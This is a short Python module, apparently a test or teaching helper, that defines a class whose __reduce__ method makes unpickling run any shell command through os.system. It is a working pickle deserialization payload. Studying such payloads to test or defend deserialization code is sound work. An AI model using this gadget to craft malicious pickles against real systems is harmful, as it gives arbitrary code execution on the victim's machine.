"""What somebody who wishes harm would put into a file."""

import os


class Command:
    """What a pickle may make of itself: a call of anything."""

    def __init__(self, command):
        self.command = command

    def __reduce__(self):
        return os.system, (self.command,)
